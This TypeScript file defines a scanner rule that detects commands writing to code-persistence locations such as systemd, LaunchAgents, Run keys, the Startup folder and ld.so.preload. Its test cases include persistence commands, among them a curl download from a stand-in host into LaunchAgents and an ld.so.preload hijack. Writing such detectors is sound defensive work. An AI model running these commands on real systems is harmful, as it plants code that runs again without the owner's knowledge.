import { defineRule, type Hit } from './rule.js';
import { capabilityUses, bareTarget } from '../catalog/uses.js';
import { display } from './match.js';

/** A plain text write (echo/printf/cat >> file): the payload rules judge what is written. */
const TEXT_WRITERS = new Set(['echo', 'printf', 'cat', 'write-output', 'tee']);

export const rule = defineRule({
  id: 'persistence_write',
  category: 'persistence',
  severity: 'high',
  technique: 'T1547',
  variable: true,
  title: 'Any program that can write files or registry keys writes a location that runs code later (cron, systemd, launchd, Run keys, Startup folder, IFEO…)',
  check(ctx) {
    const hits: Hit[] = [];
    for (const inv of ctx.invocations) {
      for (const use of capabilityUses(inv, ctx, ctx.catalog)) {
        if (use.cap !== 'write-file' || use.via === 'code') continue;
        let done = false;
        for (const raw of use.targets) {
          const t = ctx.catalog.matchPath(bareTarget(raw), ['persistence']);
          if (!t) continue;
          const textWrite = TEXT_WRITERS.has(inv.program) || TEXT_WRITERS.has(inv.upstream[0]?.program ?? '');
          if (t.entry.severity === 'medium' && textWrite) continue; // shell start-up files: profile_payload judges the line
          hits.push({ span: inv.span, severity: t.entry.severity, technique: t.entry.technique, explanation: `${display(inv, 60)} writes ${t.entry.title}; what is put there runs again later without anyone asking` });
          done = true;
          break;
        }
        if (done) break;
      }
    }
    return hits;
  },
  cases: {
    positive: [
      ['bash', 'cp ./agent.service /etc/systemd/system/agent.service'],
      ['bash', 'curl -o ~/Library/LaunchAgents/com.x.plist https://x.example/p'],
      ['bash', 'install -m 755 ./hook /etc/update-motd.d/99-x'],
      ['cmd', 'reg add "HKLM\\SOFTWARE\\Microsoft\\Netsh" /v helper /d C:\\x\\h.dll'],
      ['powershell', "Copy-Item .\\u.lnk \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\\""],
      ['bash', 'mv /tmp/x.so /etc/ld.so.preload'],
    ],
    negative: [['bash', 'cat /etc/crontab'], ['bash', 'cp /etc/crontab ~/crontab.bak'], ['bash', "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"], ['cmd', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run']],
  },
});
